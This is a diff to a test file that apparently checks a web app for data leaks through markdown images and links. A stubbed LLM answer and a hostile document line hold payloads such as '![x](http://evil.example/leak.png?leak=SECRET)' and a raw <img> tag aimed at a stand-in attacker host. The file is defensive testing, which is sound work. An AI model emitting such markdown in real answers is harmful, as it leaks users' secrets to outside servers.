@@ -3,7 +3,6 @@ the server itself (issue: markdown images and links to outside URLs, with data i
 
 from __future__ import annotations
 
-import contextlib
 import json
 import os
 import threading
@@ -20,8 +19,8 @@ pytestmark = pytest.mark.slow
 DOC_IMAGE = "![p](http://evil.example/x.png?from=doc)"
 HOSTILE_LINE = f" The measurement chart is {DOC_IMAGE} in the appendix, see http://evil.example/doc-link."
 LLM_ANSWER = ("Metrology, the science of measurement, has only recently been studied in the context of AI risk "
-              "assessment [1]. ![x](http://evil.example/leak.png?leak=SECRET) [more](http://evil.example/c?leak=SECRET) "
-              "<img src=http://evil.example/raw.png> www.evil.example/w")
+              "assessment [1]. ![x](http://evil.example/leak.png?leak=SECRET) "
+              "[more](http://evil.example/c?leak=SECRET) <img src=http://evil.example/raw.png> www.evil.example/w")
 
 
 class _StubLLM(BaseHTTPRequestHandler):
@@ -91,9 +90,10 @@ def hostile_page(hostile_server, tmp_path_factory):
         page.elsewhere = elsewhere
         page.goto(hostile_server, wait_until="domcontentloaded")
         page.locator("#question textarea").wait_for()
-        with contextlib.ExitStack():
+        try:
             yield page
-        context.close()
+        finally:
+            context.close()
 
 
 def _ask(page, question: str, done: str) -> str:
